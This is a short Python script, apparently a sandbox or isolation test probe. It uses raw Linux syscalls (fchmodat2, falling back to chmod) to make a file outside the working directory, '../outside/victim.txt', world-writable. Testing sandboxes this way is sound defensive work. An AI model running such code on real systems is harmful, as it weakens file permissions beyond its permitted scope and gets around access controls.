# The newest call to change modes.
# damage: chmod
# needs: linux, x86_64, ctypes
import ctypes

CHMOD, FCHMODAT2, HERE = 90, 452, -100
libc = ctypes.CDLL(None)
if libc.syscall(FCHMODAT2, HERE, b"../outside/victim.txt", 0o777, 0) < 0:
    libc.syscall(CHMOD, b"../outside/victim.txt", 0o777)
